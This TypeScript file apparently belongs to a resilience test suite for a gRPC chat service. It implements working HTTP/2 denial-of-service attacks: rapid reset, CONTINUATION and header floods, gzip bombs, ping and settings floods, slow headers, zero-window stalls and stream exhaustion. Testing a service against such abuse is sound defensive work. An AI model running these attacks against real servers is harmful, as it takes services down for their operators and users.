import { gzipSync } from 'node:zlib';
import { create, type DescMethod, type MessageInitShape, toBinary } from '@bufbuild/protobuf';
import { BinaryWriter, WireType } from '@bufbuild/protobuf/wire';
import { Health } from '#gen/grpc/health/v1/health_pb.ts';
import { ChannelService } from '#gen/serp/discuss/v1/channel_service_pb.ts';
import { EventService } from '#gen/serp/discuss/v1/event_service_pb.ts';
import { MessageService, SendMessageRequestSchema } from '#gen/serp/discuss/v1/message_service_pb.ts';
import type { As, Edge } from '../kit/app.ts';
import { until } from '../kit/until.ts';
import { HttpClient } from './http.ts';
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  emptyHeaders,
  frame,
  HEADERS,
  headerBlock,
  PING,
  RawConnection,
  RST_STREAM,
  SETTINGS,
  settings,
} from './raw-http2.ts';
import type { RawRequest } from './requests.ts';

/** The instance to attack, and the token of the attacker. */
export type AttackTarget = {
  readonly addresses: Readonly<Record<Edge, string>>;
  token(as: As): Promise<string>;
};

/** Abuse of HTTP that costs its sender little; `size` multiplies its amount. */
export type Attack = {
  readonly name: string;
  /** Returns what is held open, which the caller disposes. */
  readonly run: (target: AttackTarget, size: number) => Promise<Disposable>;
};

const MAX_FRAME_BYTES = 16_384;
const INITIAL_WINDOW_SIZE = 4;
const CHUNK = 100;
const ZEROS = 1_000_000;
const BOMB_BYTES = 67_108_864;
const MAX_STREAMS = 200;
const CONTENT_TYPE: Readonly<Record<Edge, string>> = {
  grpc: 'application/grpc',
  web: 'application/grpc+proto',
};

export const attacker: As = { userId: 666n, tenantId: 7_066n };

/** Attacks on both edges, in the order of their names. */
export function attacksOn(edge: Edge, channelId: bigint): readonly Attack[] {
  const attacks: Readonly<Record<string, Attack['run']>> = {
    'endless CONTINUATION': (target, size) => continuation(target, edge, size),
    'gzip bombs': (target, size) => bombs(target, edge, size),
    'half-open calls': (target, size) => halfOpen(target, edge, size),
    'header of 95,000 fields': (target, size) => manyHeaders(target, edge, size),
    'lists of a million zeros': (target, size) => zeros(target, edge, size, channelId),
    'ping flood': (target, size) => flood(target, edge, size, frame(PING, 0, 0, Buffer.alloc(8))),
    'rapid reset': (target, size) => rapidReset(target, edge, size, channelId),
    'settings flood': (target, size) => flood(target, edge, size, frame(SETTINGS, 0, 0)),
    'slow headers': (target, size) => slowHeaders(target, edge, size),
    'zero window': (target, size) => zeroWindow(target, edge, size, channelId),
    ...(edge === 'grpc' && {
      'health watches': (target: AttackTarget, size: number) => watches(target, size),
    }),
  };
  return Object.entries(attacks).map(([name, run]) => ({ name: `${edge}: ${name}`, run }));
}

async function rapidReset(
  target: AttackTarget,
  edge: Edge,
  size: number,
  channelId: bigint,
): Promise<Disposable> {
  const method = ChannelService.method.getChannel;
  const headers = headerBlock(await callHeaders(target, edge, method));
  const body = frame(DATA, END_STREAM, 0, prefixed(encode(method, { channelId })));
  return openEach(target, edge, 4, undefined, async (connection) => {
    const cancel = Buffer.alloc(4);
    cancel.writeUInt32BE(8);
    for (let first = 1; first < 1_000 * size && !connection.isClosed; first += 2 * CHUNK) {
      const frames = streamIds(first, CHUNK).flatMap((id) => [
        frame(HEADERS, END_HEADERS, id, headers),
        onStream(body, id),
        frame(RST_STREAM, 0, id, cancel),
      ]);
      await connection.send(...frames);
    }
  });
}

/** Calls whose responses the client does not let the service send. */
async function zeroWindow(
  target: AttackTarget,
  edge: Edge,
  size: number,
  channelId: bigint,
): Promise<Disposable> {
  const method = MessageService.method.listMessages;
  const headers = headerBlock(await callHeaders(target, edge, method));
  const body = frame(DATA, END_STREAM, 0, prefixed(encode(method, { channelId, pageSize: 100 })));
  const connections = Math.ceil((30 * size) / MAX_STREAMS);
  const count = Math.ceil((30 * size) / connections);
  return openEach(target, edge, connections, settings(INITIAL_WINDOW_SIZE, 0), async (connection) => {
    for (const id of streamIds(1, count))
      await connection.send(frame(HEADERS, END_HEADERS, id, headers), onStream(body, id));
    // Streams above the maximum of a connection are reset.
    const ends = () => connection.received(HEADERS) + connection.received(RST_STREAM);
    await until(() => connection.isClosed || ends() >= count, `responses of ${count} calls`, 60_000);
  });
}

async function halfOpen(target: AttackTarget, edge: Edge, size: number): Promise<Disposable> {
  const headers = headerBlock(await callHeaders(target, edge, EventService.method.subscribe));
  return openEach(target, edge, size, undefined, async (connection) => {
    for (const id of streamIds(1, edge === 'grpc' ? 1_000 : 250))
      await connection.send(frame(HEADERS, END_HEADERS, id, headers));
  });
}

/** Headers that begin and do not end, over HTTP/2 and HTTP/1.1, and connections that send nothing at all. */
async function slowHeaders(target: AttackTarget, edge: Edge, size: number): Promise<Disposable> {
  const block = headerBlock({ ':method': 'POST', ':scheme': 'http' });
  const held = await openEach(target, edge, 10 * size, undefined, (connection) =>
    connection.send(frame(HEADERS, 0, 1, block)),
  );
  const address = target.addresses[edge];
  for (const text of ['', 'P', 'PRI * HTTP/2.0\r\n', 'POST /x HTTP/1.1\r\nhost: x\r\n'])
    for (let count = 0; count < 5 * size; count += 1) {
      const connection = held.use(await RawConnection.open(address));
      if (text !== '') await connection.send(Buffer.from(text));
    }
  return held;
}

async function continuation(target: AttackTarget, edge: Edge, size: number): Promise<Disposable> {
  const block = headerBlock({ 'x-a': 'a'.repeat(MAX_FRAME_BYTES - 20) }).subarray(0, MAX_FRAME_BYTES);
  return openEach(target, edge, 4, undefined, async (connection) => {
    await connection.send(frame(HEADERS, 0, 1, headerBlock({ ':method': 'POST' })));
    for (let count = 0; count < 100 * size && !connection.isClosed; count += 1)
      await connection.send(frame(CONTINUATION, 0, 1, block));
  });
}

async function manyHeaders(target: AttackTarget, edge: Edge, size: number): Promise<Disposable> {
  const own = await callHeaders(target, edge, ChannelService.method.listChannels);
  const block = Buffer.concat([headerBlock(own), emptyHeaders(95_000)]);
  const frames = [frame(HEADERS, 0, 1, block.subarray(0, MAX_FRAME_BYTES))];
  for (let at = MAX_FRAME_BYTES; at < block.length; at += MAX_FRAME_BYTES) {
    const isLast = at + MAX_FRAME_BYTES >= block.length;
    const part = block.subarray(at, at + MAX_FRAME_BYTES);
    frames.push(frame(CONTINUATION, isLast ? END_HEADERS : 0, 1, part));
  }
  return openEach(target, edge, 2 * size, undefined, (connection) => connection.send(...frames));
}

/** Requests with as many values as possible, all of them invalid. */
async function zeros(target: AttackTarget, edge: Edge, size: number, channelId: bigint): Promise<Disposable> {
  const method = MessageService.method.sendMessage;
  const { number } = SendMessageRequestSchema.field.mentionUserIds;
  const list = new BinaryWriter().tag(number, WireType.LengthDelimited).bytes(Buffer.alloc(ZEROS)).finish();
  const body = prefixed(Buffer.concat([encode(method, { channelId, content: 'x' }), list]));
  return sendAll(target, edge, 5 * size, { method, body, headers: {} });
}

let bomb: Buffer | undefined;

/** A small compressed body that decompresses to a large one, with a token and without. */
async function bombs(target: AttackTarget, edge: Edge, size: number): Promise<Disposable> {
  const method = MessageService.method.sendMessage;
  bomb ??= prefixed(gzipSync(Buffer.alloc(BOMB_BYTES)), 1);
  const body = bomb;
  const headers = { 'grpc-encoding': 'gzip' };
  await sendAll(target, edge, 5 * size, { method, body, headers: { ...headers, authorization: '' } });
  return sendAll(target, edge, 5 * size, { method, body, headers });
}

async function sendAll(
  target: AttackTarget,
  edge: Edge,
  count: number,
  { method, body, headers }: { method: DescMethod; body: Buffer; headers: Record<string, string> },
): Promise<Disposable> {
  using http = new HttpClient(target.addresses);
  const path = `/${method.parent.typeName}/${method.name}`;
  const authorization = `Bearer ${await target.token(attacker)}`;
  const request: RawRequest = {
    edge,
    httpVersion: 2,
    verb: 'POST',
    path,
    headers: { te: 'trailers', 'content-type': CONTENT_TYPE[edge], authorization, ...headers },
    body,
    isStream: false,
    kind: '',
  };
  await Promise.all(Array.from({ length: count }, () => http.send(request)));
  return new DisposableStack();
}

async function watches(target: AttackTarget, size: number): Promise<Disposable> {
  const method = Health.method.watch;
  const { authorization: _, ...headers } = await callHeaders(target, 'grpc', method);
  const block = headerBlock(headers);
  const body = frame(DATA, END_STREAM, 0, prefixed(Buffer.alloc(0)));
  return openEach(target, 'grpc', 2 * size, undefined, async (connection) => {
    for (const id of streamIds(1, 1_000))
      await connection.send(frame(HEADERS, END_HEADERS, id, block), onStream(body, id));
  });
}

async function flood(target: AttackTarget, edge: Edge, size: number, one: Buffer): Promise<Disposable> {
  const many = Buffer.concat(Array<Buffer>(CHUNK).fill(one));
  return openEach(target, edge, 4, undefined, async (connection) => {
    for (let count = 0; count < 50 * size && !connection.isClosed; count += 1) await connection.send(many);
  });
}

/** Opens connections and attacks over all of them at the same time. */
async function openEach(
  target: AttackTarget,
  edge: Edge,
  count: number,
  first: Buffer | undefined,
  attack: (connection: RawConnection) => Promise<void>,
): Promise<DisposableStack> {
  using held = new DisposableStack();
  const attacks = Array.from({ length: count }, async () => {
    const connection = held.use(await RawConnection.openHttp2(target.addresses[edge], first));
    await attack(connection);
  });
  await Promise.all(attacks);
  return held.move();
}

async function callHeaders(
  target: AttackTarget,
  edge: Edge,
  method: DescMethod,
): Promise<Record<string, string>> {
  return {
    ':method': 'POST',
    ':scheme': 'http',
    ':path': `/${method.parent.typeName}/${method.name}`,
    ':authority': target.addresses[edge],
    te: 'trailers',
    'content-type': CONTENT_TYPE[edge],
    authorization: `Bearer ${await target.token(attacker)}`,
  };
}

function encode<M extends DescMethod>(method: M, request: MessageInitShape<M['input']>): Buffer {
  return Buffer.from(toBinary<M['input']>(method.input, create<M['input']>(method.input, request)));
}

function prefixed(message: Buffer, flags = 0): Buffer {
  const head = Buffer.alloc(5);
  head[0] = flags;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

function streamIds(first: number, count: number): number[] {
  return Array.from({ length: count }, (_, index) => first + 2 * index);
}

function onStream(bytes: Buffer, streamId: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32BE(streamId, 5);
  return copy;
}
